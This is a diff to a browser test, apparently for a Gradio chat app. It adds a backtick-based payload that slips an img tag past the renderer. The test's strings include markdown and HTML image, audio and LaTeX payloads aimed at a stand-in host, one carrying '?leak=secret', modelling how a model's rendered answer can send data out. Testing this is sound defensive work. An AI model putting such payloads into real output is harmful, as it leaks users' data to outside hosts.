@@ -23,8 +23,10 @@ from tests.evalhelpers import record_for
 
 pytestmark = pytest.mark.browser
 HOST = "198.51.100.7"
+# The last part looks like a code span, but Gradio's renderer ends the bare address at the
+# backtick and would load the image after it.
 TYPED = (f'![x](http://{HOST}/beacon.png) <img src="http://{HOST}/b2.png"> '
-         f"[a page](http://{HOST}/page)")
+         f"[a page](http://{HOST}/page) see http://x.y/`<img src=http://{HOST}/gap.png>`")
 ANSWER = (f"Seen. ![chart](http://{HOST}/beacon.png?leak=secret) "
           f'<img src="http://{HOST}/b2.png"> <audio src="http://{HOST}/a.mp3" autoplay></audio> '
           f"$$<img src=http://{HOST}/latex.png>$$ [the source](http://{HOST}/page)")
